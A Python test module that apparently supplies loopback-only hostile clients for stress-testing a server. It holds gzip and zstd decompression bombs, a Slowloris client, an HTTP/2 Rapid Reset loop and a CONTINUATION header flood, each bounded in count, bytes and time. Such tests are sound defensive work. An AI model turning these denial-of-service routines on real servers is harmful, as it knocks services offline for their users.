"""Clients that mean harm, each bounded in count, bytes and time, and only ever on loopback."""

import socket
import threading
import time
import zlib
from collections.abc import Iterator

import hyperframe.frame
import zstandard

from testbed.wire import Http2

GIB = 1 << 30


def gzip_bomb(inflated_bytes: int = GIB) -> Iterator[bytes]:
    """A gzip stream that inflates to so many zeros: one flushed block, repeated, so that it costs nothing to make."""
    block_bytes = 1 << 24
    assert inflated_bytes % block_bytes == 0
    zeros = bytes(block_bytes)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush the compressor has no memory, so the block can be repeated.
    block = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
    yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    checksum = 0
    for _ in range(inflated_bytes // block_bytes):
        checksum = zlib.crc32(zeros, checksum)
        yield block
    yield zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    yield checksum.to_bytes(4, "little") + (inflated_bytes % (1 << 32)).to_bytes(4, "little")


def zstd_bomb(inflated_bytes: int = GIB) -> Iterator[bytes]:
    """A zstd frame of so many zeros that does not announce its size."""
    compressor = zstandard.ZstdCompressor(level=1, write_content_size=False).compressobj()
    zeros = bytes(1 << 22)
    for _ in range(inflated_bytes // len(zeros)):
        if piece := compressor.compress(zeros):
            yield piece
    yield compressor.flush()


class Slowloris:
    """Connections that each send one byte a second of a request that never ends."""

    def __init__(self, port: int, connections: int, opening: bytes, seconds: float):
        self.seconds = seconds
        self.sockets = [socket.create_connection(("127.0.0.1", port), timeout=5) for _ in range(connections)]
        self.opening = opening
        self.thread = threading.Thread(target=self._drip)

    def __enter__(self) -> "Slowloris":
        self.thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.thread.join()
        for connection in self.sockets:
            connection.close()

    def _drip(self) -> None:
        deadline = time.monotonic() + self.seconds
        position = 0
        while time.monotonic() < deadline:
            byte = self.opening[position : position + 1] or b"a"
            position += 1
            for connection in self.sockets:
                try:
                    connection.send(byte)
                except OSError:
                    # Closed by the server: what this attack is meant to meet.
                    continue
            time.sleep(1)

    def closed_by_server(self) -> int:
        """How many of the connections the server has ended so far."""
        closed = 0
        for connection in self.sockets:
            connection.setblocking(False)
            try:
                # An answer such as 408 may stand before the end.
                while connection.recv(4096):
                    pass
                closed += 1
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
            finally:
                connection.setblocking(True)
        return closed


def rapid_reset(port: int, method: str, streams: int) -> int:
    """Opens streams and resets each at once; gives how many went out before the server ended the connection."""
    sent = 0
    with Http2(port, timeout=5) as connection:
        try:
            for sent in range(streams):
                stream = connection.open_grpc(method)
                connection.h2.reset_stream(stream)
                if sent % 50 == 0:
                    connection.flush()
            connection.flush()
        except OSError:
            pass
    return sent


def continuation_flood(port: int, frames: int, frame_bytes: int = 16_000) -> int:
    """One header block that never ends; gives how many bytes the server took before it ended the connection."""
    # Literal header field, new name, never indexed: no table grows on our side, all of it is the server's to hold.
    name, value = b"x-flood", b"v" * (frame_bytes - 40)
    field = b"\x10" + bytes([len(name)]) + name + _hpack_length(len(value)) + value
    sent = 0
    with Http2(port, timeout=5) as connection:
        opening = hyperframe.frame.HeadersFrame(1)
        # :method POST, :scheme http, :path / from the static table.
        opening.data = b"\x83\x86\x84"
        try:
            connection.socket.sendall(opening.serialize())
            for _ in range(frames):
                flood = hyperframe.frame.ContinuationFrame(1)
                flood.data = field
                connection.socket.sendall(flood.serialize())
                sent += len(field)
        except OSError:
            pass
    return sent


def _hpack_length(length: int) -> bytes:
    """An HPACK integer with a 7-bit prefix (RFC 7541, 5.1)."""
    if length < 127:
        return bytes([length])
    encoded = bytearray([127])
    length -= 127
    while length >= 128:
        encoded.append(length % 128 + 128)
        length //= 128
    encoded.append(length)
    return bytes(encoded)
